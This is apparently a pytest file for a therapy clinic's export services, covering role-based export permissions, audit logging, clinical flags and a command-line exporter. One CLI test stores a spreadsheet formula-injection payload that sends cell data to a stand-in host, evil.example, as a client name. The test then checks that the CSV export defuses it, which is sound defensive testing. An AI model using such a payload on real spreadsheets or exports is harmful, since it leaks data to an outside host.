"""Export services: roles, one audit entry per export, flags as the chart shows them, and the CLI."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys

import pytest

from alliance_desktop.core.export_model import ExportScope
from alliance_desktop.services import clients, sessions
from alliance_desktop.services.access_record import access_record
from alliance_desktop.services.errors import InvalidInput
from alliance_desktop.services.export_data import NotAllowed, course_export, resolve_scope
from tests.services.kiosk_fixtures import audit_entries
from tests.services.workspace_fixtures import *  # noqa: F403
from tests.services.workspace_fixtures import STAFF_PASSWORD, login


def exported(user_session, scope, kind="csv"):
    with course_export(user_session, scope, kind=kind) as episodes:
        return list(episodes)


def test_a_therapist_exports_their_own_clients_and_nobody_elses(clinic, seeded):
    tara = login(clinic, "tara")
    try:
        own = resolve_scope(tara)
        assert own.kind == "therapist" and own.therapist_id == seeded.tara.id
        assert {e.client_id for e in exported(tara, own)} == {seeded.repaired_client, seeded.unrepaired_client}
        one = resolve_scope(tara, client="RP-0001")
        assert [e.client_id for e in exported(tara, one)] == [seeded.repaired_client]
        with pytest.raises(NotAllowed):
            resolve_scope(tara, client="TH-0003")
        with pytest.raises(NotAllowed):
            resolve_scope(tara, therapist="theo")
        with pytest.raises(NotAllowed):
            resolve_scope(tara, everything=True)
        # A scope built by hand is checked again by the export itself.
        with pytest.raises(NotAllowed), course_export(tara, ExportScope("client", client_id=seeded.theo_client),
                                                      kind="fhir"):
            pass
        with pytest.raises(NotAllowed):
            access_record(tara, client_id=seeded.theo_client)
        assert audit_entries(tara, "export.fhir") == [] and audit_entries(tara, "export.access") == []
    finally:
        tara.lock()


def test_an_administrator_exports_no_clinical_data(session, seeded):
    with pytest.raises(NotAllowed):
        resolve_scope(session, client="RP-0001")
    with pytest.raises(NotAllowed):
        access_record(session, client="RP-0001")
    with pytest.raises(NotAllowed), course_export(session, ExportScope("clinic"), kind="csv"):
        pass


def test_a_supervisor_exports_the_clinic_or_any_caseload(clinic, seeded):
    sue = login(clinic, "sue")
    try:
        everything = resolve_scope(sue)
        assert everything.kind == "clinic"
        assert len(exported(sue, everything)) == 3
        theo = resolve_scope(sue, therapist="theo")
        assert [e.client_id for e in exported(sue, theo)] == [seeded.theo_client]
        assert access_record(sue, client="TH-0003")["client"]["pseudonym"] == "TH-0003"
    finally:
        sue.lock()


def test_names_that_match_nothing_are_clear_errors(clinic, seeded):
    sue = login(clinic, "sue")
    try:
        with pytest.raises(InvalidInput, match="pseudonym code"):
            resolve_scope(sue, client="NOPE-1")
        with pytest.raises(InvalidInput, match="no therapist"):
            resolve_scope(sue, therapist="sue")
        with pytest.raises(InvalidInput, match="not several"):
            resolve_scope(sue, client="RP-0001", therapist="tara")
    finally:
        sue.lock()


def test_each_export_leaves_one_audit_entry_with_ids_only(clinic, seeded):
    tara = login(clinic, "tara")
    try:
        exported(tara, resolve_scope(tara, client="RP-0001"), kind="csv")
        exported(tara, resolve_scope(tara), kind="research")
        access_record(tara, client="RP-0001")
        csv_entries = audit_entries(tara, "export.csv")
        research_entries = audit_entries(tara, "export.research")
        access_entries = audit_entries(tara, "export.access")
    finally:
        tara.lock()
    assert len(csv_entries) == len(research_entries) == len(access_entries) == 1
    assert (csv_entries[0].target_kind, csv_entries[0].target_id) == ("client", str(seeded.repaired_client))
    assert (research_entries[0].target_kind, research_entries[0].target_id) == ("user", str(seeded.tara.id))
    assert access_entries[0].target_id == str(seeded.repaired_client)
    for entry in (*csv_entries, *research_entries, *access_entries):
        assert entry.actor_id == seeded.tara.id
        assert "RP-0001" not in json.dumps(entry.details)


def test_flags_and_counting_responses_follow_the_course_rules(clinic, seeded):
    tara = login(clinic, "tara")
    try:
        [rep] = exported(tara, resolve_scope(tara, client="RP-0001"))
        [unr] = exported(tara, resolve_scope(tara, client="UR-0002"))
        first = next(r for r in unr.responses if r.session_number == 1 and r.instrument_id == "phq9")
        amendment = sessions.amend_response(tara, first.id, {str(i): 1 for i in range(1, 10)}, "typo on paper")
        [again] = exported(tara, resolve_scope(tara, client="UR-0002"))
    finally:
        tara.lock()
    assert (rep.alliance_instrument, rep.outcome_instrument) == ("example-alliance", "phq9")
    six = rep.session(6).flags
    assert six.rupture_severity is not None and "R1" in six.rupture_rules and six.rupture_repair == "repaired"
    assert unr.session(6).flags.rupture_repair == "unrepaired"
    assert ("phq9", "9") in unr.session(9).flags.risk_items and unr.session(9).flags.colour == "red"
    assert all(r.counts for r in rep.responses)
    counts = {r.id: r.counts for r in again.responses}
    assert counts[first.id] is False and counts[amendment.response_id] is True
    phq_items = [a.item_id for a in rep.responses[1].answers]
    assert phq_items[:3] == ["1", "2", "3"]  # definition order, not text order


def run_cli(*args: str, password: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "ALLIANCE_PASSWORD": password}
    return subprocess.run([sys.executable, "-m", "alliance_desktop", *args], capture_output=True, text=True,
                          env=env, timeout=120)


def test_cli_exports_csv_fhir_and_access_and_refuses_another_therapists_client(clinic, session, seeded, tmp_path):
    payload = "=HYPERLINK(\"http://evil.example/?\"&A1)"
    made = clients.create_client(session, payload, None, seeded.tara.id)
    episode_id = clients.open_episode(session, made.client_id).open_episode.episode_id
    tara = login(clinic, "tara")
    try:
        rec = sessions.record_session(tara, episode_id, tara.clock.now().date())
        sessions.enter_paper_response(tara, rec.therapy_session_id, "phq9", {str(i): 0 for i in range(1, 10)},
                                      comment="-2+3, \"quoted\"\nsecond line")
    finally:
        tara.lock()
    root = str(clinic.paths.root)
    out = tmp_path / "out"
    out.mkdir()
    common = ("--data-dir", root, "--user", "tara")
    done = run_cli("export", "csv", "--client", payload, "--out", str(out), *common, password=STAFF_PASSWORD)
    assert done.returncode == 0, done.stderr
    assert "NOT encrypted" in done.stdout
    [totals] = list(out.glob("*_response_totals.csv"))
    assert "/" not in totals.name and "evil" in totals.name
    with totals.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["client"] == "'" + payload and rows[0]["comment"] == "'-2+3, \"quoted\"\nsecond line"
    assert rows[0]["total"] == "0"
    fhir = run_cli("export", "fhir", "--out", str(out / "b.json"), *common, password=STAFF_PASSWORD)
    assert fhir.returncode == 0, fhir.stderr
    assert json.loads((out / "b.json").read_text())["resourceType"] == "Bundle"
    access = run_cli("export", "access", "--client", "RP-0001", "--out", str(out), *common, password=STAFF_PASSWORD)
    assert access.returncode == 0, access.stderr
    assert json.loads((out / "RP-0001_access.json").read_text())["client"]["pseudonym"] == "RP-0001"
    refused = run_cli("export", "access", "--client", "TH-0003", "--out", str(out / "x.json"), *common,
                      password=STAFF_PASSWORD)
    assert refused.returncode == 2 and "not on your caseload" in refused.stderr
    assert not (out / "x.json").exists()
